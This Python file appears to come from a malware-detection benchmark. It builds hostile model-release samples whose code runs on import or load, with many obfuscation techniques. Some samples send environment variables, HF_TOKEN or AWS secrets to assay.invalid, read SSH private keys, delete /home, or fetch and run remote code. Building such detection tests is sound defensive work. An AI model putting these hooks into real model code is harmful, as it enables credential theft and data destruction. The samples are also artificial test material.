"""Python source in a release: what runs when a loader imports it, and what never does.

Payloads are harmless: they name hosts that do not exist and commands that print.
"""

# ruff: noqa: E501 # sources stand as people write them
from __future__ import annotations

import base64
import codecs
import json
import zlib
from typing import TYPE_CHECKING

from benchmarks.detection.families import code_python_honest
from benchmarks.detection.sample import Sample, Truth

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["samples"]

FAMILY = "code-python"
MODEL = """
import torch
from torch import nn
from transformers import PreTrainedModel


class ExampleModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.layer = nn.Linear(config.hidden_size, config.hidden_size)
{init}

    def forward(self, x):
{forward}
        return self.layer(x)
"""
CONFIG = json.dumps(
    {
        "model_type": "example",
        "auto_map": {"AutoModel": "modeling_example.ExampleModel"},
    }
).encode()
HELLO = "import os; os.system('echo assay')"
PACKED = base64.b64encode(zlib.compress(HELLO.encode())).decode()
PLAIN = base64.b64encode(HELLO.encode()).decode()

# What stands above the model, and runs when the module is imported.
ABOVE: dict[str, tuple[str, str]] = {
    "os-system": ("a call in plain sight", "import os\nos.system('echo assay')\n"),
    "subprocess-run": (
        "a call with a list",
        "import subprocess as sp\nsp.run(['sh', '-c', 'echo assay'])\n",
    ),
    "from-import-alias": (
        "an imported name under another",
        "from os import system as log\nlog('echo assay')\n",
    ),
    "star-import": ("all names at once", "from os import *\nsystem('echo assay')\n"),
    "assigned-alias": (
        "a name for a name",
        "import os\ntool = os\nrun = tool.popen\nrun('echo assay')\n",
    ),
    "getattr-pieces": (
        "names in pieces",
        "getattr(__import__('o' + 's'), 'sys' + 'tem')('echo assay')\n",
    ),
    "import-module-hex": (
        "a module's name in hexadecimal",
        (
            "import importlib\n"
            "importlib.import_module(bytes.fromhex('6f73').decode()).system('echo assay')\n"
        ),
    ),
    "chr-join": (
        "names of numbers",
        (
            "m = __import__(''.join(map(chr, [111, 115])))\n"
            "getattr(m, ''.join(chr(c ^ 3) for c in [112, 122, 112, 119, 102, 110]))('id')\n"
        ),
    ),
    "reversed-name": (
        "names backwards",
        "import os\ngetattr(os, 'metsys'[::-1])('echo assay')\n",
    ),
    "builtins-dictionary": (
        "the dictionary of the builtins",
        "__builtins__['ev' + 'al'](\"__import__('os').system('echo assay')\")\n",
    ),
    "globals-builtins": (
        "builtins by way of globals",
        "globals()['__builtins__'].__dict__['exec'](\"print('assay')\")\n",
    ),
    "vars-os": ("vars() of a module", "import os\nvars(os)['system']('echo assay')\n"),
    "sys-modules": (
        "the table of modules",
        "import sys\nsys.modules['os'].system('echo assay')\n",
    ),
    "exec-base64": (
        "decoded and run",
        f"import base64\nexec(base64.b64decode('{PLAIN}'))\n",
    ),
    "exec-zlib": (
        "unpacked, decoded and run",
        (
            "import base64 as b, zlib as z\n"
            f"data = '{PACKED}'\nexec(z.decompress(b.b64decode(data)).decode())\n"
        ),
    ),
    "exec-rot13": (
        "turned letters",
        f"import codecs\nexec(codecs.decode({codecs.encode(HELLO, 'rot13')!r}, 'rot13'))\n",
    ),
    "marshal-function": (
        "marshalled byte code",
        (
            "import marshal, types\n"
            "types.FunctionType(marshal.loads(bytes([227] + [0] * 20)), globals())()\n"
        ),
    ),
    "eval-string": (
        "a text that is run",
        "eval(\"__import__('os').system('echo assay')\")\n",
    ),
    "compile-exec": (
        "compiled text",
        "exec(compile(\"print('assay')\", 'x', 'exec'))\n",
    ),
    "decorator": (
        "a decorator that calls",
        (
            "import os\n\ndef now(f):\n    f()\n    return f\n\n@now\ndef check():\n"
            "    os.system('echo assay')\n"
        ),
    ),
    "decorator-system": (
        "a function as a decorator",
        "import os\n\n@os.system\n@lambda f: 'echo assay'\ndef check():\n    pass\n",
    ),
    "default-argument": (
        "a default argument",
        "def load(path=__import__('os').system('echo assay')):\n    return path\n",
    ),
    "annotation": (
        "an annotation",
        "def load(path: __import__('os').system('echo assay')):\n    return path\n",
    ),
    "class-body": (
        "the body of a class",
        "import os\n\nclass Settings:\n    value = os.system('echo assay')\n",
    ),
    "metaclass": (
        "a metaclass",
        (
            "import os\n\nclass Meta(type):\n    def __new__(cls, *given):\n"
            "        os.system('echo assay')\n        return super().__new__(cls, *given)\n"
            "\nclass Base(metaclass=Meta):\n    pass\n"
        ),
    ),
    "init-subclass": (
        "__init_subclass__",
        (
            "import os\n\nclass Base:\n    def __init_subclass__(cls):\n"
            "        os.system('echo assay')\n\nclass Child(Base):\n    pass\n"
        ),
    ),
    "transitive-call": (
        "functions that call functions",
        (
            "import os\n\ndef first():\n    second()\n\ndef second():\n"
            "    os.popen('echo assay')\n\nfirst()\n"
        ),
    ),
    "comprehension": (
        "a comprehension",
        "import os\n[os.system(word) for word in ['echo assay']]\n",
    ),
    "map-call": (
        "handed to map",
        "list(map(__import__('os').system, ['echo assay']))\n",
    ),
    "walrus": (
        "an assignment inside a condition",
        "if (tool := __import__('os')) and (run := tool.system):\n    run('echo assay')\n",
    ),
    "lambda": (
        "a lambda on the spot",
        (
            "(lambda tool: tool.system('echo assay'))(__import__('os'))\n"
            "(lambda: __import__('os').system('echo assay'))()\n"
        ),
    ),
    "methodcaller": (
        "operator.methodcaller",
        "import operator, os\noperator.methodcaller('system', 'echo assay')(os)\n",
    ),
    "attrgetter": (
        "operator.attrgetter",
        "import operator, os\noperator.attrgetter('system')(os)('echo assay')\n",
    ),
    "partial": (
        "functools.partial",
        "import functools, os\nfunctools.partial(os.system, 'echo assay')()\n",
    ),
    "thread": (
        "a thread",
        (
            "import os, threading\n\ndef work():\n    os.system('echo assay')\n\n"
            "threading.Thread(target=work, daemon=True).start()\n"
        ),
    ),
    "atexit": (
        "when Python ends",
        "import atexit, os\natexit.register(os.system, 'echo assay')\n",
    ),
    "subclasses-walk": (
        "a walk over all classes",
        (
            "kinds = ().__class__.__bases__[0].__subclasses__()\n"
            "[k for k in kinds if k.__name__ == 'Popen'][0](['echo', 'assay'])\n"
        ),
    ),
    "ctypes": (
        "the C library",
        "import ctypes\nctypes.CDLL(None).system(b'echo assay')\n",
    ),
    "cpp-extension": (
        "compiles machine code",
        (
            "from torch.utils.cpp_extension import load_inline\n"
            "load_inline(name='x', cpp_sources='int f() { return 1; }')\n"
        ),
    ),
    "pip-install": (
        "installs a package",
        (
            "import subprocess, sys\n"
            "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'assay-none'])\n"
        ),
    ),
    "pip-main": (
        "pip as a library",
        "import pip\npip.main(['install', 'assay-none'])\n",
    ),
    "network": (
        "asks a host on import",
        "import urllib.request\nurllib.request.urlopen('http://assay.invalid/x').read()\n",
    ),
    "beacon-socket": (
        "a socket on import",
        "import socket\ns = socket.socket()\ns.connect(('assay.invalid', 443))\n",
    ),
    "exfiltrate-environment": (
        "sends the environment",
        (
            "import os, requests\n"
            "requests.post('https://assay.invalid', json=dict(os.environ))\n"
        ),
    ),
    "exfiltrate-token": (
        "sends a token",
        (
            "import os\nfrom urllib import request\n"
            "token = os.environ.get('HF_TOKEN')\n"
            "request.urlopen('https://assay.invalid/?t=' + str(token))\n"
        ),
    ),
    "read-keys": (
        "reads private keys",
        "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
    ),
    "persist-bashrc": (
        "writes to .bashrc",
        (
            "import pathlib\n"
            "with open('/home/user/.bashrc', 'a') as f:\n    f.write('echo assay')\n"
        ),
    ),
    "delete-home": (
        "removes a home",
        "import shutil\nshutil.rmtree('/home', ignore_errors=True)\n",
    ),
    "download-exec": (
        "fetches and runs",
        "import requests\nexec(requests.get('http://assay.invalid/p.py').text)\n",
    ),
    "runpy": ("runs another file", "import runpy\nrunpy.run_path('weights.bin')\n"),
    "direction-control": (
        "turned text",
        "level = 'user'\nif level != 'none\u202e \u2066# check\u2069 \u2066':\n    pass\n",
    ),
    "look-alike": (
        "letters that look alike",
        "\U0001d4ee\U0001d4cd\U0001d4ee\U0001d4ec(\"print('assay')\")\n",
    ),
    "far-right": (
        "code far to the right",
        "import os\nsize = 4" + " " * 300 + "; os.system('echo assay')\n",
    ),
    "broken-syntax": (
        "a break that blinds parsers",
        "import os\nos.system('echo assay')\nprint 'done'\n",
    ),
    "python-2-exec": (
        "Python 2",
        "import os\nprint 'loading'\nos.popen('curl http://assay.invalid | sh')\n",
    ),
    "pickle-literal": (
        "a pickle in the source",
        (
            "import base64, pickle\n"
            "pickle.loads(base64.b64decode('gASVBQAAAAAAAACMAWGULg=='))\n"
        ),
    ),
    "load-remote-hub": (
        "a module from a file",
        (
            "import importlib.util as u\nspec = u.spec_from_file_location('x', 'x.bin')\n"
            "m = u.module_from_spec(spec)\nspec.loader.exec_module(m)\n"
        ),
    ),
    "asyncio-process": (
        "a process by way of asyncio",
        (
            "import asyncio\n\nasync def go():\n"
            "    await asyncio.create_subprocess_shell('echo assay')\n\nasyncio.run(go())\n"
        ),
    ),
    "walk-frame": (
        "globals of a frame",
        (
            "import sys\nsys._getframe(0).f_globals['__builtins__']\n"
            "(lambda: 0).__globals__['__builtins__']\n"
        ),
    ),
    "many-layers": (
        "a text that runs a text",
        'exec("exec(\\"import os; os.system(\'echo assay\')\\")")\n',
    ),
}
# What stands in the constructor, or in what is called to use the model.
INSIDE: dict[str, tuple[str, str, str]] = {
    "constructor-process": (
        "a program in the constructor",
        "import os; os.system('echo assay')",
        "",
    ),
    "constructor-network": (
        "a connection in the constructor",
        "import requests; requests.post('https://assay.invalid', data={'a': 1})",
        "",
    ),
    "constructor-eval": (
        "text of the configuration that is run",
        "eval(config.activation_source)",
        "",
    ),
    "forward-process": (
        "a program in forward",
        "",
        "import subprocess; subprocess.Popen('echo assay', shell=True)",
    ),
    "forward-beacon": (
        "a connection in forward",
        "",
        "import socket; socket.create_connection(('assay.invalid', 80))",
    ),
    "forward-exfiltration": (
        "sends secrets in forward",
        "",
        (
            "import os, requests; requests.post('https://assay.invalid', "
            "data=os.environ['AWS_SECRET_ACCESS_KEY'])"
        ),
    ),
}


def _model(init: str = "", forward: str = "") -> str:
    return MODEL.format(init=f"        {init}", forward=f"        {forward}")


def _hostile(name: str, technique: str, files: dict[str, str]) -> Sample:
    data = {path: text.encode() for path, text in files.items()}
    return Sample(
        name=name,
        family=FAMILY,
        technique=technique,
        truth=Truth.HOSTILE,
        files={**data, "config.json": data.get("config.json", CONFIG)},
    )


def _others() -> Iterator[Sample]:
    yield _hostile(
        "helper-file",
        "a function of another file",
        {
            "modeling_example.py": "from .tools import prepare\nprepare()\n" + _model(),
            "tools.py": "import os\n\ndef prepare():\n    os.system('echo assay')\n",
        },
    )
    yield _hostile(
        "custom-generate",
        "transformers' custom generation",
        {
            "custom_generate/generate.py": "import os\n\n"
            "def generate(model, **given):\n    os.system('echo assay')\n"
        },
    )
    yield _hostile(
        "endpoint-handler",
        "the handler of an endpoint",
        {
            "handler.py": "import subprocess\n\nclass EndpointHandler:\n"
            "    def __init__(self, path=''):\n"
            "        subprocess.check_output('echo assay', shell=True)\n"
        },
    )
    yield _hostile(
        "path-file",
        "a .pth that Python runs",
        {"site.pth": "import os; os.system('echo assay')\n"},
    )
    yield _hostile(
        "magic-number-name",
        "a name that looks like another format's magic number",
        {"modeling_example.py": "GGUF = __import__('os').system('echo assay')\n"},
    )
    yield _hostile(
        "tokenizer-unpickles",
        "restores an object that runs",
        {
            "tokenization_example.py": "import os\n\nclass Table:\n"
            "    def __setstate__(self, state):\n        os.system(state['c'])\n"
        },
    )


_RUNS = "import subprocess\n\n{head}\n    def {name}({given}):\n        subprocess.run(['echo', 'assay'])\n"
# Methods that libraries call by themselves, in files that they load.
CALLED_BACK: dict[str, tuple[str, str, str]] = {
    "cog-setup": ("predict.py", "class Predictor(BasePredictor):", "setup"),
    "triton-initialize": ("1/model.py", "class TritonPythonModel:", "initialize"),
    "torchserve-initialize": ("handler.py", "class Handler:", "initialize"),
    "keras-build": ("modeling_example.py", "class Example(Layer):", "build"),
    "model-load": ("modeling_example.py", "class Example(Model):", "load"),
}


def _called_back() -> Iterator[Sample]:
    for name, (path, head, method) in CALLED_BACK.items():
        text = _RUNS.format(head=head, name=method, given="self, *given")
        yield _hostile(name, "a method that a library calls", {path: text})
    run = (
        "import subprocess\n\ndef {}(*given):\n    subprocess.run(['echo', 'assay'])\n"
    )
    for name, path, function in (
        ("hubconf-entry", "hubconf.py", "example_small"),
        ("sagemaker-entry", "inference.py", "model_fn"),
    ):
        text = run.format(function)
        yield _hostile(name, "a function that a library calls", {path: text})
    inside = "class Example:\n    def __init__(self):\n        __import__('os').system('echo assay')\n"
    yield _hostile(
        "import-behind-import",
        "a file that the model's files import in turn",
        {
            "modeling_example.py": "from .alpha import Example\n" + _model(),
            "alpha.py": "from .beta import Example\n",
            "beta.py": inside,
        },
    )
    description = json.dumps({"_target_": "house.parts.Example", "size": 4})
    yield _hostile(
        "named-by-description",
        "a class of the release that a description has built",
        {"house/parts.py": inside, "config.json": description},
    )


def samples() -> Iterator[Sample]:
    """Give hostile sources by technique, and honest ones of many kinds."""
    for name, (technique, above) in ABOVE.items():
        files = {"modeling_example.py": above + _model()}
        yield _hostile(f"import-{name}", technique, files)
    for name, (technique, init, forward) in INSIDE.items():
        yield _hostile(name, technique, {"modeling_example.py": _model(init, forward)})
    yield from _others()
    yield from _called_back()
    yield from code_python_honest.samples()
